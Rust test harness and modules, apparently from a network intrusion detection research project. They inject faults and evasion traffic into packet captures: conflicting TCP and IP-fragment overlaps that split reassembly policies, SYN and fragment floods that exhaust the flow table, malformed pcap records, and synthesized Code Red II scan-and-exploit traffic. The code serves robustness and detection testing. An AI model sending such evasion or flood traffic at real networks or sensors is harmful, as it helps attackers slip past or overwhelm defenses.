        let (b, lb) = chaos_pcap(&mut StdRng::seed_from_u64(3), &pkts, &cfg);
        assert_eq!(a, b);
        assert_eq!(la.protocol_faults, lb.protocol_faults);
        let (c, _) = chaos_pcap(&mut StdRng::seed_from_u64(4), &pkts, &cfg);
        assert_ne!(a, c, "different seed, different fault pattern");
    }

    #[test]
    fn zero_rate_without_tail_faults_is_identity() {
        let pkts = capture();
        let cfg = ChaosConfig {
            rate: 0.0,
            flood_flows: 0,
            truncate_tail: false,
            bogus_incl_len: false,
        };
        let (bytes, log) = chaos_pcap(&mut StdRng::seed_from_u64(5), &pkts, &cfg);
        assert_eq!(log.protocol_faults + log.byte_faults, 0);
        let mut r = PcapReader::new(Cursor::new(bytes)).unwrap();
        let decoded = r.decode_all().unwrap();
        assert_eq!(decoded.len(), pkts.len());
        for (a, b) in decoded.iter().zip(&pkts) {
            assert_eq!(a.raw(), b.raw());
        }
    }

    #[test]
    fn faulted_capture_stays_readable_to_the_tail() {
        let pkts = capture();
        let cfg = ChaosConfig {
            flood_flows: 32,
            ..ChaosConfig::with_rate(0.3)
        };
        let (bytes, log) = chaos_pcap(&mut StdRng::seed_from_u64(6), &pkts, &cfg);
        assert!(log.protocol_faults > 0);
        assert!(log.byte_faults > 0);
        assert_eq!(log.flood_packets, 32);
        let mut r = PcapReader::new(Cursor::new(bytes)).unwrap();
        let decoded = r.decode_all().unwrap();
        let stats = r.read_stats();
        // The only stream-ending fault is the single tail record, so the
        // overwhelming majority of records must have been read.
        assert!(decoded.len() as u64 + stats.undecodable > pkts.len() as u64 / 2);
        assert_eq!(stats.truncated_records + stats.malformed_records, 1);
        assert!(stats.balanced());
    }

    /// Reassemble one direction of a capture under a policy (test-side
    /// mini harness; the real pipeline goes through the flow table).
    fn reassemble(packets: &[Packet], policy: snids_flow::OverlapPolicy) -> (Vec<u8>, u64) {
        let mut r = snids_flow::Reassembler::with_policy(1 << 20, policy);
        for p in packets {
            let Some(tcp) = p.tcp() else { continue };
            if tcp.flags.syn() {
                r.on_syn(tcp.seq);
            } else {
                r.on_data(tcp.seq, p.payload());
            }
        }
        (r.assembled().to_vec(), r.overlap_conflict_bytes())
    }

    #[test]
    fn desync_same_seed_same_packets() {
        let pkts = capture();
        let cfg = DesyncConfig::with_rate(0.4);
        let run = |seed| {
            let mut log = ChaosLog::default();
            let out = desync_packets(&mut StdRng::seed_from_u64(seed), &pkts, &cfg, &mut log);
            (out, log)
        };
        let (a, la) = run(9);
        let (b, lb) = run(9);
        assert_eq!(a.len(), b.len());
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.raw(), y.raw());
        }
        assert_eq!(la.desync_faults, lb.desync_faults);
        assert_eq!(la.divergent_overlap_bytes, lb.divergent_overlap_bytes);
        let (c, _) = run(10);
        assert!(
            a.len() != c.len() || a.iter().zip(&c).any(|(x, y)| x.raw() != y.raw()),
            "different seed must produce a different fault pattern"
        );
    }

    #[test]
    fn desync_zero_rate_is_identity() {
        let pkts = capture();
        let mut log = ChaosLog::default();
        let out = desync_packets(
            &mut StdRng::seed_from_u64(1),
            &pkts,
            &DesyncConfig::with_rate(0.0),
            &mut log,
        );
        assert_eq!(log.desync_faults, 0);
        assert!(log.divergent_sources.is_empty());
        assert_eq!(out.len(), pkts.len());
        for (a, b) in out.iter().zip(&pkts) {
            assert_eq!(a.raw(), b.raw());
        }
    }

    /// The whole point of the fault family: the same desynced wire data
    /// reassembles *differently* under different overlap policies, while
    /// coverage (stream length) stays identical and every policy's
    /// conflict ledger lights up.
    #[test]
    fn desync_splits_policies_apart() {
        use crate::traces::tcp_flow_packets;
        let payload: Vec<u8> = (0..40_000u32).map(|i| (i % 251) as u8).collect();
        let flow = tcp_flow_packets(
            Ipv4Addr::new(198, 18, 3, 3),
            Ipv4Addr::new(192, 168, 1, 10),
            4400,
            21,
            &payload,
            100,
            0x7777,
        );
        let mut log = ChaosLog::default();
        let faulted = desync_packets(
            &mut StdRng::seed_from_u64(21),
            &flow,
            &DesyncConfig::with_rate(1.0),
            &mut log,
        );
        assert!(log.desync_faults > 0);
        assert!(log.divergent_overlap_bytes > 0);
        assert_eq!(
            log.divergent_sources.into_iter().collect::<Vec<_>>(),
            vec![Ipv4Addr::new(198, 18, 3, 3)]
        );

        let mut streams = Vec::new();
        for policy in snids_flow::OverlapPolicy::ALL {
            let (clean, clean_conflicts) = reassemble(&flow, policy);
            assert_eq!(clean, payload, "clean capture must round-trip");
            assert_eq!(clean_conflicts, 0);
            let (dirty, conflicts) = reassemble(&faulted, policy);
            assert_eq!(
                dirty.len(),
                payload.len(),
                "desync faults never change coverage under {}",
                policy.name()
            );
            assert!(
                conflicts > 0,
                "conflict ledger must light up under {}",
                policy.name()
            );
            assert!(
                conflicts <= log.divergent_overlap_bytes,
                "log bound violated under {}",
                policy.name()
            );
            streams.push(dirty);
        }
        // At least one policy must disagree with another, and at least one
        // must have had its stream corrupted relative to the original.
        assert!(
            streams.iter().any(|s| s != &streams[0]),
            "all policies reassembled identically — no desync achieved"
        );
        assert!(streams.iter().any(|s| s != &payload));
    }

    #[test]
    fn exhaustion_same_seed_same_packets() {
        let pkts = capture();
        let cfg = ExhaustionConfig {
            flood_flows: 64,
            flood_payload: 512,
            frag_datagrams: 16,
        };
        let hp = AddressPlan::default().honeypots[0];
        let run = |seed| {
            let mut log = ChaosLog::default();
            let out = exhaustion_flood(&mut StdRng::seed_from_u64(seed), &pkts, hp, &cfg, &mut log);
            (out, log)
        };
        let (a, la) = run(31);
        let (b, lb) = run(31);
        assert_eq!(a.len(), b.len());
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.raw(), y.raw());
        }
        assert_eq!(la.exhaustion_bytes, lb.exhaustion_bytes);
        assert_eq!(la.flood_sources, lb.flood_sources);
        let (c, _) = run(32);
        assert!(
            a.iter().zip(&c).any(|(x, y)| x.raw() != y.raw()),
            "different seed must produce a different flood"
        );
    }

    #[test]
    fn exhaustion_flood_shape() {
        let pkts = capture();
        let cfg = ExhaustionConfig {
            flood_flows: 48,
            flood_payload: 700,
            frag_datagrams: 12,
        };
        let hp = AddressPlan::default().honeypots[0];
        let mut log = ChaosLog::default();
        let out = exhaustion_flood(&mut StdRng::seed_from_u64(41), &pkts, hp, &cfg, &mut log);

        // The original capture passes through untouched, in order.
        for (a, b) in out.iter().zip(&pkts) {
            assert_eq!(a.raw(), b.raw());
        }
        assert_eq!(log.flood_sources.len(), 48 + 12, "unique sources");
        assert!(log.exhaustion_bytes >= 48 * 700, "{}", log.exhaustion_bytes);
        assert!(log.exhaustion_frag_packets > 0);
        // Every flood source's first packet probes the honeypot — the
        // classifier must see it before any state-parking traffic.
        for src in &log.flood_sources {
            let first = out
                .iter()
                .find(|p| p.ip().map(|h| h.src) == Some(*src))
                .expect("source appears in the capture");
            assert_eq!(first.ip().map(|h| h.dst), Some(hp), "probe first: {src}");
        }
        // The flood arrives strictly after the planted capture goes cold.
        let last_planted = pkts.last().map_or(0, |p| p.ts_micros);
        for p in &out[pkts.len()..] {
            assert!(p.ts_micros >= last_planted + 1_000_000);
        }

        // Zero-intensity config is the identity.
        let mut quiet = ChaosLog::default();
        let same = exhaustion_flood(
            &mut StdRng::seed_from_u64(41),
            &pkts,
            hp,
            &ExhaustionConfig {
                flood_flows: 0,
                flood_payload: 0,
                frag_datagrams: 0,
            },
            &mut quiet,
        );
        assert_eq!(same.len(), pkts.len());
        assert_eq!(quiet.exhaustion_bytes, 0);
        assert!(quiet.flood_sources.is_empty());
    }

    #[test]
    fn flood_targets_only_existing_destinations() {
        let pkts = capture();
        let mut dsts: Vec<Ipv4Addr> = pkts.iter().filter_map(|p| p.ip().map(|h| h.dst)).collect();
        dsts.sort_unstable();
        dsts.dedup();
        let cfg = ChaosConfig {
            rate: 0.0,
            flood_flows: 16,
            truncate_tail: false,
            bogus_incl_len: false,
        };
        let mut log = ChaosLog::default();
        let out = chaos_packets(&mut StdRng::seed_from_u64(7), &pkts, &cfg, &mut log);
        assert_eq!(out.len(), pkts.len() + 16);
        for p in &out[pkts.len()..] {
            let ip = p.ip().unwrap();
            assert!(dsts.contains(&ip.dst));
            assert_eq!(ip.src.octets()[0], 203);
        }
    }
}
