//! Deterministic fault injection for robustness testing.
//!
//! The paper's evaluation assumes well-formed captures; a deployed sensor
//! sees the opposite — damaged files, hostile senders, evasion traffic.
//! This module takes a clean packet capture and seeds it with the faults a
//! sensor must survive:
//!
//! * **protocol-level** (applied to packets): corrupted checksums, missing
//!   / duplicated / conflicting-overlap IP fragments, reordered and
//!   conflicting-retransmit TCP segments, and a SYN-flood of throwaway
//!   flows to pressure the flow table;
//! * **byte-level** (applied to the serialized pcap): bit flips inside
//!   frame data, garbage records with valid framing, and — at the tail,
//!   where they end the readable stream — a truncated record or a record
//!   header with a hostile `incl_len`.
//!
//! Everything is driven by a caller-supplied RNG, so a fault pattern is
//! reproducible from a seed. The [`ChaosLog`] records which source
//! addresses had *destructive* faults applied to their traffic, letting a
//! test assert that every untouched attack source is still detected.

use rand::{Rng, RngCore};
use snids_flow::defrag::fragment_packet;
use snids_packet::{Packet, PacketBuilder, PcapWriter, ETHERNET_HEADER_LEN};
use std::collections::HashSet;
use std::net::Ipv4Addr;

/// Fault-injection intensity and toggles.
#[derive(Debug, Clone)]
pub struct ChaosConfig {
    /// Base per-packet / per-record fault probability in `[0, 1]`.
    pub rate: f64,
    /// Throwaway SYN-flood flows appended to pressure the flow table.
    pub flood_flows: usize,
    /// Append a record whose bytes end early (stream truncation).
    pub truncate_tail: bool,
    /// Append a record header claiming a hostile `incl_len`.
    pub bogus_incl_len: bool,
}

impl ChaosConfig {
    /// A config with the given base rate and all fault families enabled.
    pub fn with_rate(rate: f64) -> Self {
        ChaosConfig {
            rate: rate.clamp(0.0, 1.0),
            flood_flows: 0,
            truncate_tail: true,
            bogus_incl_len: true,
        }
    }
}

impl Default for ChaosConfig {
    fn default() -> Self {
        ChaosConfig::with_rate(0.05)
    }
}

/// What the injector did, for assertions in tests.
#[derive(Debug, Clone, Default)]
pub struct ChaosLog {
    /// Protocol-level faults applied (any kind).
    pub protocol_faults: u64,
    /// Byte-level faults applied to the serialized capture.
    pub byte_faults: u64,
    /// Flood packets appended.
    pub flood_packets: u64,
    /// Source addresses whose traffic had a *destructive* fault applied
    /// (checksum corruption, dropped fragment, bit flip) — detection for
    /// these sources may legitimately be lost. Duplicates, reorders and
    /// conflicting overlaps are non-destructive by design (first-copy-wins
    /// reassembly keeps the original data) and are not recorded here.
    pub touched_sources: HashSet<Ipv4Addr>,
}

impl ChaosLog {
    fn touch(&mut self, packet: &Packet) {
        if let Some(ip) = packet.ip() {
            self.touched_sources.insert(ip.src);
        }
    }
}

/// Apply protocol-level faults to a packet sequence.
pub fn chaos_packets<G: RngCore>(
    rng: &mut G,
    packets: &[Packet],
    cfg: &ChaosConfig,
    log: &mut ChaosLog,
) -> Vec<Packet> {
    let mut out: Vec<Packet> = Vec::with_capacity(packets.len() + cfg.flood_flows);
    // A reorder fault holds one packet back and emits it after its
    // successor.
    let mut held: Option<Packet> = None;

    for p in packets {
        if let Some(h) = held.take() {
            out.push(p.clone());
            out.push(h);
            continue;
        }
        if !rng.gen_bool(cfg.rate) {
            out.push(p.clone());
            continue;
        }
        log.protocol_faults += 1;
        match rng.gen_range(0..5u8) {
            0 => corrupt_checksum(rng, p, log, &mut out),
            1 => fragment_fault(rng, p, log, &mut out),
            2 => {
                // Exact retransmission: harmless duplicate.
                out.push(p.clone());
                out.push(p.clone());
            }
            3 => conflicting_retransmit(rng, p, &mut out),
            _ => {
                // Reorder: this packet arrives after the next one.
                held = Some(p.clone());
            }
        }
    }
    if let Some(h) = held {
        out.push(h);
    }

    // SYN-flood: unique throwaway sources against destinations already in
    // the capture, spread across the capture's time span.
    let dsts: Vec<Ipv4Addr> = {
        let mut v: Vec<Ipv4Addr> = packets
            .iter()
            .filter_map(|p| p.ip().map(|h| h.dst))
            .collect();
        v.sort_unstable();
        v.dedup();
        v
    };
    let last_ts = packets.last().map_or(0, |p| p.ts_micros);
    if !dsts.is_empty() {
        for i in 0..cfg.flood_flows {
            let src = Ipv4Addr::new(203, 0, rng.gen_range(113..=120), rng.gen_range(1..=254));
            let dst = dsts[rng.gen_range(0..dsts.len())];
            let syn = PacketBuilder::new(src, dst)
                .at(last_ts + 10 + i as u64)
                .identification(rng.gen())
                .tcp_syn(rng.gen_range(1025..65000), 80, rng.gen());
            if let Ok(syn) = syn {
                out.push(syn);
                log.flood_packets += 1;
            }
        }
    }
    out
}

/// Flip a byte inside the transport region so the IPv4 or TCP checksum no
/// longer verifies; the pipeline must drop and account the packet.
fn corrupt_checksum<G: RngCore>(
    rng: &mut G,
    p: &Packet,
    log: &mut ChaosLog,
    out: &mut Vec<Packet>,
) {
    let Some(ip) = p.ip() else {
        out.push(p.clone());
        return;
    };
    let mut raw = p.raw().to_vec();
    // Anywhere in the IP packet past the version byte will desynchronise a
    // checksum (header bytes break the IP sum, payload bytes the TCP sum).
    let lo = ETHERNET_HEADER_LEN + 2;
    let hi = ETHERNET_HEADER_LEN + ip.total_len;
    let at = rng.gen_range(lo..hi);
    raw[at] ^= 1 << rng.gen_range(0..8u8);
    match Packet::decode(p.ts_micros, raw) {
        Ok(bad) => {
            log.touch(p);
            out.push(bad);
        }
        // The flip broke framing instead; keep the original.
        Err(_) => out.push(p.clone()),
    }
}

/// Split a packet into fragments and then drop, duplicate, or
/// conflictingly-duplicate one of them.
fn fragment_fault<G: RngCore>(rng: &mut G, p: &Packet, log: &mut ChaosLog, out: &mut Vec<Packet>) {
    let already_fragmented = p
        .ip()
        .map(|h| h.more_fragments || h.fragment_offset != 0)
        .unwrap_or(false);
    let mut frags = if already_fragmented {
        vec![p.clone()]
    } else {
        fragment_packet(p, 256)
    };
    if frags.len() < 2 {
        out.push(p.clone());
        return;
    }
    match rng.gen_range(0..3u8) {
        0 => {
            // Missing fragment: the datagram never completes.
            let victim = rng.gen_range(0..frags.len());
            frags.remove(victim);
            log.touch(p);
        }
        1 => {
            // Exact duplicate fragment.
            let i = rng.gen_range(0..frags.len());
            let dup = frags[i].clone();
            frags.insert(i + 1, dup);
        }
        _ => {
            // Conflicting overlap: a later copy of one fragment carries
            // different payload bytes. First-copy-wins reassembly must
            // keep the original data. (Fragment payload bytes are outside
            // the IP header checksum, and fragments carry no verifiable
            // TCP checksum, so the copy is not dropped earlier.)
            let i = rng.gen_range(0..frags.len());
            let mut raw = frags[i].raw().to_vec();
            if raw.len() > ETHERNET_HEADER_LEN + 20 {
                let at = rng.gen_range(ETHERNET_HEADER_LEN + 20..raw.len());
                raw[at] ^= 0x5a;
                if let Ok(dup) = Packet::decode(frags[i].ts_micros + 1, raw) {
                    frags.insert(i + 1, dup);
                }
            }
        }
    }
    out.append(&mut frags);
}

/// Retransmit a TCP segment with different payload bytes but valid
/// checksums; first-copy-wins stream reassembly must keep the original.
fn conflicting_retransmit<G: RngCore>(rng: &mut G, p: &Packet, out: &mut Vec<Packet>) {
    out.push(p.clone());
    let (Some(ip), Some(tcp)) = (p.ip(), p.tcp()) else {
        return;
    };
    let payload = p.payload();
    if payload.is_empty() {
        return;
    }
    let mut data = payload.to_vec();
    let at = rng.gen_range(0..data.len());
    data[at] ^= 0x5a;
    let retx = PacketBuilder::new(ip.src, ip.dst)
        .at(p.ts_micros + 1)
        .identification(ip.identification.wrapping_add(1))
        .tcp(
            tcp.src_port,
            tcp.dst_port,
            tcp.seq,
            tcp.ack,
            tcp.flags,
            &data,
        );
    if let Ok(retx) = retx {
        out.push(retx);
    }
}

/// Serialize packets to pcap bytes with byte-level faults layered on top.
///
/// Faults that desynchronise the record stream (truncation, hostile
/// `incl_len`) are appended at the tail only, so every real record stays
/// readable and the capture remains a meaningful end-to-end input. Bit
/// flips and garbage records keep record framing intact and may land
/// anywhere.
pub fn chaos_pcap<G: RngCore>(
    rng: &mut G,
    packets: &[Packet],
    cfg: &ChaosConfig,
) -> (Vec<u8>, ChaosLog) {
    let mut log = ChaosLog::default();
    let mutated = chaos_packets(rng, packets, cfg, &mut log);

    // Global header via the real writer, then hand-rolled records so the
    // byte offsets of each frame are known.
    let mut buf = PcapWriter::new(Vec::new())
        .and_then(PcapWriter::finish)
        .unwrap_or_default();
    let mut regions: Vec<(usize, usize, Option<Ipv4Addr>)> = Vec::with_capacity(mutated.len());
    for p in &mutated {
        let frame = p.raw();
        write_record_header(&mut buf, p.ts_micros, frame.len() as u32);
        regions.push((buf.len(), frame.len(), p.ip().map(|h| h.src)));
        buf.extend_from_slice(frame);

        // Garbage record with valid framing: reader must attribute it as
        // a record (usually undecodable) and keep going.
        if rng.gen_bool(cfg.rate * 0.25) {
            let len = rng.gen_range(4..64usize);
            write_record_header(&mut buf, p.ts_micros + 1, len as u32);
            let mut junk = vec![0u8; len];
            rng.fill_bytes(&mut junk);
            buf.extend_from_slice(&junk);
            log.byte_faults += 1;
        }
    }

    // Bit flips inside frame data: framing stays intact, the frame decodes
    // differently (or not at all).
    for (start, len, src) in &regions {
        if *len > 0 && rng.gen_bool(cfg.rate * 0.5) {
            let at = start + rng.gen_range(0..*len);
            buf[at] ^= 1 << rng.gen_range(0..8u8);
            if let Some(src) = src {
                log.touched_sources.insert(*src);
            }
            log.byte_faults += 1;
        }
    }

    // Tail faults end the readable stream, so at most one is observable.
    let tail_bogus = match (cfg.bogus_incl_len, cfg.truncate_tail) {
        (true, true) => rng.gen_bool(0.5),
        (bogus, _) => bogus,
    };
    if tail_bogus {
        // Hostile incl_len: claims ~4 GiB; the reader must refuse it
        // without allocating.
        write_record_header(&mut buf, 0, 0xFFFF_FF00);
        buf.extend_from_slice(&[0u8; 8]);
        log.byte_faults += 1;
    } else if cfg.truncate_tail {
        // Record header promising more bytes than the file has left.
        write_record_header(&mut buf, 0, 512);
        buf.extend_from_slice(&[0u8; 37]);
        log.byte_faults += 1;
    }
    (buf, log)
}

fn write_record_header(buf: &mut Vec<u8>, ts_micros: u64, incl_len: u32) {
    buf.extend_from_slice(&((ts_micros / 1_000_000) as u32).to_le_bytes());
    buf.extend_from_slice(&((ts_micros % 1_000_000) as u32).to_le_bytes());
    buf.extend_from_slice(&incl_len.to_le_bytes());
    buf.extend_from_slice(&incl_len.to_le_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traces::{codered_capture, AddressPlan};
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use snids_packet::PcapReader;
    use std::io::Cursor;

    fn capture() -> Vec<Packet> {
        let mut rng = StdRng::seed_from_u64(11);
        codered_capture(&mut rng, &AddressPlan::default(), 400, 2).0
    }

    #[test]
    fn same_seed_same_bytes() {
        let pkts = capture();
        let cfg = ChaosConfig::with_rate(0.2);
        let (a, la) = chaos_pcap(&mut StdRng::seed_from_u64(3), &pkts, &cfg);
        let (b, lb) = chaos_pcap(&mut StdRng::seed_from_u64(3), &pkts, &cfg);
        assert_eq!(a, b);
        assert_eq!(la.protocol_faults, lb.protocol_faults);
        let (c, _) = chaos_pcap(&mut StdRng::seed_from_u64(4), &pkts, &cfg);
        assert_ne!(a, c, "different seed, different fault pattern");
    }

    #[test]
    fn zero_rate_without_tail_faults_is_identity() {
        let pkts = capture();
        let cfg = ChaosConfig {
            rate: 0.0,
            flood_flows: 0,
            truncate_tail: false,
            bogus_incl_len: false,
        };
        let (bytes, log) = chaos_pcap(&mut StdRng::seed_from_u64(5), &pkts, &cfg);
        assert_eq!(log.protocol_faults + log.byte_faults, 0);
        let mut r = PcapReader::new(Cursor::new(bytes)).unwrap();
        let decoded = r.decode_all().unwrap();
        assert_eq!(decoded.len(), pkts.len());
        for (a, b) in decoded.iter().zip(&pkts) {
            assert_eq!(a.raw(), b.raw());
        }
    }

    #[test]
    fn faulted_capture_stays_readable_to_the_tail() {
        let pkts = capture();
        let cfg = ChaosConfig {
            flood_flows: 32,
            ..ChaosConfig::with_rate(0.3)
        };
        let (bytes, log) = chaos_pcap(&mut StdRng::seed_from_u64(6), &pkts, &cfg);
        assert!(log.protocol_faults > 0);
        assert!(log.byte_faults > 0);
        assert_eq!(log.flood_packets, 32);
        let mut r = PcapReader::new(Cursor::new(bytes)).unwrap();
        let decoded = r.decode_all().unwrap();
        let stats = r.read_stats();
        // The only stream-ending fault is the single tail record, so the
        // overwhelming majority of records must have been read.
        assert!(decoded.len() as u64 + stats.undecodable > pkts.len() as u64 / 2);
        assert_eq!(stats.truncated_records + stats.malformed_records, 1);
        assert!(stats.balanced());
    }

    #[test]
    fn flood_targets_only_existing_destinations() {
        let pkts = capture();
        let mut dsts: Vec<Ipv4Addr> = pkts.iter().filter_map(|p| p.ip().map(|h| h.dst)).collect();
        dsts.sort_unstable();
        dsts.dedup();
        let cfg = ChaosConfig {
            rate: 0.0,
            flood_flows: 16,
            truncate_tail: false,
            bogus_incl_len: false,
        };
        let mut log = ChaosLog::default();
        let out = chaos_packets(&mut StdRng::seed_from_u64(7), &pkts, &cfg, &mut log);
        assert_eq!(out.len(), pkts.len() + 16);
        for p in &out[pkts.len()..] {
            let ip = p.ip().unwrap();
            assert!(dsts.contains(&ip.dst));
            assert_eq!(ip.src.octets()[0], 203);
        }
    }
}
