//! Network trace synthesis: packets, flows and whole captures with ground
//! truth — the stand-in for the paper's production-network traces.

use crate::{benign, codered};
use rand::Rng;
use snids_packet::{Packet, PacketBuilder, TcpFlags};
use std::net::Ipv4Addr;

/// Maximum TCP payload per segment (Ethernet MSS).
pub const MSS: usize = 1400;

/// Turn one application payload into a SYN + data-segment packet train.
#[allow(clippy::too_many_arguments)]
pub fn tcp_flow_packets(
    src: Ipv4Addr,
    dst: Ipv4Addr,
    src_port: u16,
    dst_port: u16,
    payload: &[u8],
    start_ts: u64,
    isn: u32,
) -> Vec<Packet> {
    let b = PacketBuilder::new(src, dst);
    let mut out = Vec::with_capacity(2 + payload.len() / MSS);
    out.push(
        b.clone()
            .at(start_ts)
            .tcp(src_port, dst_port, isn, 0, TcpFlags::SYN, &[])
            .expect("syn"),
    );
    let mut seq = isn.wrapping_add(1);
    let mut ts = start_ts + 200;
    for chunk in payload.chunks(MSS) {
        out.push(
            b.clone()
                .at(ts)
                .tcp(
                    src_port,
                    dst_port,
                    seq,
                    1,
                    TcpFlags::ACK | TcpFlags::PSH,
                    chunk,
                )
                .expect("data"),
        );
        seq = seq.wrapping_add(chunk.len() as u32);
        ts += 150;
    }
    out
}

/// Address plan shared by the synthesized experiments.
#[derive(Debug, Clone)]
pub struct AddressPlan {
    /// The protected web server.
    pub web_server: Ipv4Addr,
    /// The mail server.
    pub mail_server: Ipv4Addr,
    /// Honeypot decoys.
    pub honeypots: Vec<Ipv4Addr>,
    /// Dark (unused) space: `dark_net/16`.
    pub dark_net: Ipv4Addr,
}

impl Default for AddressPlan {
    fn default() -> Self {
        AddressPlan {
            web_server: Ipv4Addr::new(192, 168, 1, 10),
            mail_server: Ipv4Addr::new(192, 168, 1, 11),
            honeypots: vec![
                Ipv4Addr::new(192, 168, 1, 200),
                Ipv4Addr::new(192, 168, 1, 201),
            ],
            dark_net: Ipv4Addr::new(10, 99, 0, 0),
        }
    }
}

impl AddressPlan {
    /// A random internal client.
    pub fn client<G: Rng>(&self, rng: &mut G) -> Ipv4Addr {
        Ipv4Addr::new(192, 168, 2, rng.gen_range(2..250))
    }

    /// A random external host.
    pub fn external<G: Rng>(&self, rng: &mut G) -> Ipv4Addr {
        Ipv4Addr::new(198, 18, rng.gen_range(0..250), rng.gen_range(2..250))
    }

    /// A random dark-space address.
    pub fn dark<G: Rng>(&self, rng: &mut G) -> Ipv4Addr {
        let base = u32::from(self.dark_net) & 0xffff_0000;
        Ipv4Addr::from(base | rng.gen_range(2u32..65_000))
    }
}

/// Ground truth accompanying a synthesized capture.
#[derive(Debug, Clone, Default)]
pub struct GroundTruth {
    /// Number of Code Red II exploit instances planted.
    pub crii_instances: usize,
    /// The attacking source addresses.
    pub crii_sources: Vec<Ipv4Addr>,
}

/// Synthesize one Table-3-style capture: ≥ `target_packets` packets of
/// benign background with `crii_count` Code Red II instances woven in.
///
/// Each worm source behaves like the real worm: it scans several addresses
/// (including dark space, so the classifier flags it) and then delivers
/// the exploit request to the web server.
pub fn codered_capture<G: Rng>(
    rng: &mut G,
    plan: &AddressPlan,
    target_packets: usize,
    crii_count: usize,
) -> (Vec<Packet>, GroundTruth) {
    let mut packets: Vec<Packet> = Vec::with_capacity(target_packets + crii_count * 32);
    let mut ts: u64 = 1_000_000;
    let mut truth = GroundTruth {
        crii_instances: crii_count,
        crii_sources: Vec::new(),
    };

    // Decide where the worm instances land in the packet stream.
    let mut insert_points: Vec<usize> = (0..crii_count)
        .map(|_| rng.gen_range(0..target_packets.max(1)))
        .collect();
    insert_points.sort_unstable();
    let mut next_instance = 0usize;

    let mut emitted = 0usize;
    while emitted < target_packets {
        // Weave in worm instances at their chosen points.
        while next_instance < insert_points.len() && insert_points[next_instance] <= emitted {
            let src = plan.external(rng);
            truth.crii_sources.push(src);
            // scanning phase: probe dark space past the classifier threshold
            for _ in 0..6 {
                let b = PacketBuilder::new(src, plan.dark(rng));
                packets.push(
                    b.at(ts)
                        .tcp_syn(rng.gen_range(1025..65000), 80, rng.gen())
                        .unwrap(),
                );
                ts += 500;
            }
            // delivery phase: the exploit request to the web server
            let req = codered::request(rng);
            let train = tcp_flow_packets(
                src,
                plan.web_server,
                rng.gen_range(1025..65000),
                80,
                &req,
                ts,
                rng.gen(),
            );
            ts += 1000 * train.len() as u64;
            packets.extend(train);
            next_instance += 1;
        }

        // Benign background traffic.
        let (src, dst, dport, payload) = match rng.gen_range(0..5) {
            0 => (plan.client(rng), plan.web_server, 80, benign::http_get(rng)),
            1 => (
                plan.web_server,
                plan.client(rng),
                rng.gen_range(1025..65000),
                benign::http_response(rng),
            ),
            2 => (
                plan.client(rng),
                plan.mail_server,
                25,
                benign::smtp_session(rng),
            ),
            3 => (
                plan.external(rng),
                plan.web_server,
                80,
                benign::http_get(rng),
            ),
            _ => (
                plan.web_server,
                plan.client(rng),
                rng.gen_range(1025..65000),
                {
                    let n = rng.gen_range(400..2400);
                    benign::binary_download(rng, n)
                },
            ),
        };
        let train = tcp_flow_packets(
            src,
            dst,
            rng.gen_range(1025..65000),
            dport,
            &payload,
            ts,
            rng.gen(),
        );
        ts += 300 * train.len() as u64;
        emitted += train.len();
        packets.extend(train);
    }
    // Any instances that drew insertion points past the end.
    while next_instance < insert_points.len() {
        let src = plan.external(rng);
        truth.crii_sources.push(src);
        for _ in 0..6 {
            let b = PacketBuilder::new(src, plan.dark(rng));
            packets.push(
                b.at(ts)
                    .tcp_syn(rng.gen_range(1025..65000), 80, rng.gen())
                    .unwrap(),
            );
            ts += 500;
        }
        let req = codered::request(rng);
        packets.extend(tcp_flow_packets(
            src,
            plan.web_server,
            rng.gen_range(1025..65000),
            80,
            &req,
            ts,
            rng.gen(),
        ));
        ts += 50_000;
        next_instance += 1;
    }

    (packets, truth)
}

/// Background traffic from *tainted-benign* sources: hosts that trip the
/// suspicion classifier once (a stray SYN to a honeypot decoy — think a
/// misconfigured scanner or a NATed office) and then carry on with
/// perfectly ordinary text traffic to the real servers.
///
/// This is the population the pre-filter fast path exists for: the
/// classifier keeps flagging every later packet from these sources as
/// suspicious, yet none of it deserves reassembly or semantic analysis.
/// All payloads are plain HTTP/SMTP text, so a correctly tuned gate
/// rejects every data segment while the classifier alone would analyze
/// them all. Flow counts and sizes are deterministic in `rng`.
pub fn tainted_benign_flows<G: Rng>(
    rng: &mut G,
    plan: &AddressPlan,
    sources: usize,
    flows_per_source: usize,
    start_ts: u64,
) -> Vec<Packet> {
    let mut out = Vec::new();
    let mut ts = start_ts;
    for _ in 0..sources {
        let src = plan.external(rng);
        // The one bad look: a probe to a decoy. From here on the
        // classifier distrusts this source.
        let hp = plan.honeypots[rng.gen_range(0..plan.honeypots.len())];
        out.push(
            PacketBuilder::new(src, hp)
                .at(ts)
                .tcp_syn(rng.gen_range(1025..65000), 80, rng.gen())
                .expect("probe syn"),
        );
        ts += 700;
        for _ in 0..flows_per_source {
            let (dst, dport, payload) = match rng.gen_range(0..4) {
                0..=2 => (plan.web_server, 80, benign::http_get(rng)),
                _ => (plan.mail_server, 25, benign::smtp_session(rng)),
            };
            let train = tcp_flow_packets(
                src,
                dst,
                rng.gen_range(1025..65000),
                dport,
                &payload,
                ts,
                rng.gen(),
            );
            ts += 250 * train.len() as u64;
            out.extend(train);
        }
    }
    out
}

/// The §5.4 benign corpus: application payloads totalling about
/// `target_bytes`, mixed like a month of Class-C traffic (mostly web,
/// some mail, some high-entropy downloads).
///
/// Like the paper's corpus ("the traffic was examined beforehand, to
/// ensure none of the threats we are attempting to detect … were
/// present"), this stream contains no decryption routines. The
/// copy-protected installers that *do* carry one are generated separately
/// ([`copy_protected_corpus`]) for the classifier ablation, where the
/// paper's §3 discussion predicts a host-style scanner false-positives on
/// them while the NIDS does not.
pub fn benign_corpus<G: Rng>(rng: &mut G, target_bytes: usize) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    let mut total = 0usize;
    while total < target_bytes {
        let payload = match rng.gen_range(0..20) {
            0..=9 => benign::http_get(rng),
            10..=13 => benign::http_response(rng),
            14 | 15 => benign::http_post(rng),
            16 | 17 => benign::smtp_session(rng),
            _ => {
                let n = rng.gen_range(1024..8192);
                benign::binary_download(rng, n)
            }
        };
        total += payload.len();
        out.push(payload);
    }
    out
}

/// Copy-protected (Crypkey/ASProtect-style) installer downloads — each one
/// genuinely contains a decryption stub. Input to the A1 classifier
/// ablation.
pub fn copy_protected_corpus<G: Rng>(rng: &mut G, count: usize) -> Vec<Vec<u8>> {
    (0..count)
        .map(|_| {
